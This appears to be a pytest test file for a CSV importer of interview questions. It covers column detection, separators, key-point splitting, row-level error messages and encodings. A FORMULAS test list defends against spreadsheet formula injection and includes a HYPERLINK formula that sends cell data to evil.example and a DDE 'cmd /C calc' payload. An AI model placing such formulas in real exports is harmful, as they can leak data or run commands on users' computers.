"""CSV of strangers: cells are texts, whatever a spreadsheet would make of them, and faults name their row."""

from __future__ import annotations

import pytest

from questions.own.format import OwnPoint, OwnQuestion
from questions.own.reading import Known, Reading, UnreadableFile, read_file
from questions.own.writing import to_csv

KNOWN = Known({"rag": "rag", "agents": "agents"}, "rag", "mid")


def read(text: str | bytes, name: str = "mine.csv") -> Reading:
    return read_file(name=name, data=text.encode() if isinstance(text, str) else text, known=KNOWN)


def refusal(text: str | bytes) -> str:
    with pytest.raises(UnreadableFile) as refused:
        read(text)
    return str(refused.value)


def test_columns_are_found_by_their_names_in_any_order():
    text = (
        "Key points,Level,Title,Question,Minutes,Tags,Answer,Follow-ups\n"
        '"3: One\nTwo",Senior,Reranking,Why rerank?,7,"rag, re-rank",It helps.,"And then? | Think\nWhy?"\n'
    )
    question = read(text).rows[0].question

    assert (question.title, question.prompt, question.level, question.minutes) == (
        "Reranking",
        "Why rerank?",
        "senior",
        7,
    )
    assert [(point.weight, point.text) for point in question.key_points] == [(3, "One"), (2, "Two")]
    assert (question.tags, question.reference) == (["rag", "re-rank"], "It helps.")
    assert [(item.question, item.hint) for item in question.follow_ups] == [("And then?", "Think"), ("Why?", "")]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_the_separator_is_that_of_the_header(separator):
    cells = ["title", "prompt", "key_points"]
    text = separator.join(cells) + "\r\n" + separator.join(["A", "B", "One | Two"]) + "\r\n"

    assert [point.text for point in read(text).rows[0].question.key_points] == ["One", "Two"]
    assert read(f"sep={separator}\r\n{text}").rows[0].question.title == "A"


def test_a_title_alone_or_a_prompt_alone_is_enough():
    text = 'title,prompt,reference\nOnly a title,,It helps.\n,"**First** line of it\nand more",It helps.\n'

    assert [(row.question.title, row.question.prompt) for row in read(text).rows] == [
        ("Only a title", "Only a title"),
        ("First line of it", "**First** line of it\nand more"),
    ]


@pytest.mark.parametrize(
    ("cell", "points"),
    [
        ("a|b", ["a", "b"]),
        ("a | b|c", ["a", "b", "c"]),
        ("3:a|1: b", ["a", "b"]),
        ("|a||b|", ["a", "b"]),
        ("Bayes turns P(A|B) round | It needs the prior", ["Bayes turns P(A|B) round", "It needs the prior"]),
        ("`cat log | sort` shows it|Then count", ["`cat log | sort` shows it", "Then count"]),
    ],
)
def test_bars_set_key_points_apart_with_or_without_spaces(cell, points):
    question = read(f'title,key_points\nA,"{cell}"\n').rows[0].question

    assert [point.text for point in question.key_points] == points


def test_a_lone_point_with_bars_is_exported_so_that_it_stays_one():
    for text in ("a|b", "a | b", "P(A|B)"):
        question = OwnQuestion(title="A", prompt="A", category="rag", key_points=[OwnPoint(text=text)])
        again = read(to_csv([question])).rows[0].question

        assert [point.text for point in again.key_points] == [text]


def test_front_and_back_are_enough():
    question = read("Front,Back\nWhat is HNSW?,A graph index. It trades memory for recall.\n").rows[0].question

    assert (question.title, question.prompt) == ("What is HNSW?", "What is HNSW?")
    assert question.reference == "A graph index. It trades memory for recall."
    assert len(question.key_points) == 2


@pytest.mark.parametrize(
    ("header", "missing", "there"),
    [
        (
            "Frage,Antwort,Stapel",
            ["“title” or “prompt”", "“key_points” or “reference”"],
            "“Frage”, “Antwort”, “Stapel”",
        ),
        ("Frage;Antwort", ["“title” or “prompt”"], "“Frage”, “Antwort”"),
        ("prompt,level", ["“key_points” or “reference”"], "“prompt”, “level”"),
        ("key_points,minutes", ["“title” or “prompt”"], "“key_points”, “minutes”"),
    ],
)
def test_a_missing_column_is_said_with_the_columns_that_are_there(header, missing, there):
    said = refusal(f"{header}\na,b\n")

    assert f"It says {there}. Missing:" in said
    assert all(part in said.partition("Missing:")[2] for part in missing)
    if "prompt" in header:
        assert "title" not in said.partition("Missing:")[2]


def test_a_category_is_taken_from_its_column_then_from_a_tag_then_for_the_whole_file():
    text = (
        "title,category,tags,key_points\n"
        "A,agents,rag,x\n"
        'B,,"hard, agents",x\n'
        "C,Cooking,AI::Agents,x\n"
        "D,Cooking,hard,x\n"
        "E,,,x\n"
    )
    reading = read(text)

    assert [(row.question.category, row.names_category) for row in reading.rows] == [
        ("agents", True),
        ("agents", True),
        ("agents", True),
        ("rag", False),
        ("rag", False),
    ]
    assert [remark for remark in reading.remarks if "Cooking" in remark]


def test_each_fault_names_its_row_and_the_good_rows_stay():
    text = (
        "title,prompt,level,minutes,key_points\n"
        "Good,Why?,mid,5,A\n"
        '"Two\nlines",Why?,boss,soon,A\n'
        "Good too,Why?,mid,5,A\n"
        "Too many cells,Why?,mid,5,A,B\n"
        ",,,,\n"
        "No points,Why?,mid,5,\n"
    )
    reading = read(text)

    assert [(row.number, row.question.title) for row in reading.rows] == [(2, "Good"), (4, "Good too")]
    assert [(fault.number, fault.message) for fault in reading.faults] == [
        (3, "level: must be 'junior', 'mid' or 'senior'"),
        (3, "minutes: must be a whole number"),
        (5, "has 6 cells, but the header names 5 columns"),
        (7, "there is nothing to grade by: give key points or a reference answer"),
    ]


def test_columns_that_are_not_read_are_named():
    assert read("title,Deck,key_points,Owner\nA,x,B,y\n").remarks == ["Columns that are not read: Deck, Owner."]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def test_formulas_are_texts():
    rows = "\n".join('"{0}","{0}","A point","{0}"'.format(formula.replace('"', '""')) for formula in FORMULAS)
    reading = read(f"title,prompt,key_points,reference\n{rows}\n")

    assert [row.question.reference for row in reading.rows] == [formula.strip() for formula in FORMULAS]


def test_a_guard_against_formulas_is_taken_off_and_other_apostrophes_stay():
    text = "title,prompt,key_points\n'=1+1,'quoted' text,'-5 | 'tis\n"
    question = read(text).rows[0].question

    assert (question.title, question.prompt) == ("=1+1", "'quoted' text")
    assert [point.text for point in question.key_points] == ["-5", "'tis"]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "empty"),
        ("  \n ", "empty"),
        ("a,b\n1,2\n", "Row 1 must name the columns"),
        ("title,key_points\n", "There is no question"),
        ("title,reference,title\nA,B,C\n", "names the column “title” twice"),
        ('title,reference\n"unclosed,B\n', "Row 2 is not CSV"),
        ('title,reference\n"a"b,c\n', "Row 2 is not CSV"),
        ("title,reference\n" + "x" * 200_000 + ",B\n", "Row 2 is not CSV"),
        ("title,prompt\na\x00b,c\n", "not a text file"),
        (b"\xff\xfet\x00i", "not a text file"),
        (b"\xff\xfet\x00i\x00", "Row 1 must name the columns"),
        (b"\xff\xfe\x00", "not a text file"),
        (b"\xff\xfe\x00\xd8\x00\xd8", "not a text file"),
        (b"%PDF-1.7\n\x80\x81\x82\x8d", "not a text file"),
    ],
)
def test_what_is_no_csv_of_questions_is_refused_in_words(text, said):
    assert said in refusal(text)


def test_ten_thousand_rows_are_refused_as_a_whole():
    assert "more than 2,000 questions" in refusal("title,key_points\n" + "A,B\n" * 10_000)


def test_ten_thousand_wrong_rows_are_refused_too():
    assert "more than 2,000 questions" in refusal("title,level,key_points\n" + "A,boss,B\n" * 10_000)


def test_many_faults_are_counted_and_the_first_hundred_kept():
    reading = read("title,level,key_points\n" + "A,boss,B\n" * 1_500)

    assert (len(reading.rows), len(reading.faults), reading.fault_count) == (0, 100, 1_500)


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le", "cp1252"])
def test_encodings_of_spreadsheets_are_read_right(encoding):
    text = "title,prompt,key_points\nCafé,“Für wen?”,Größe – zählt\n"

    question = read(text.encode(encoding)).rows[0].question
    assert (question.title, question.prompt, question.key_points[0].text) == ("Café", "“Für wen?”", "Größe – zählt")
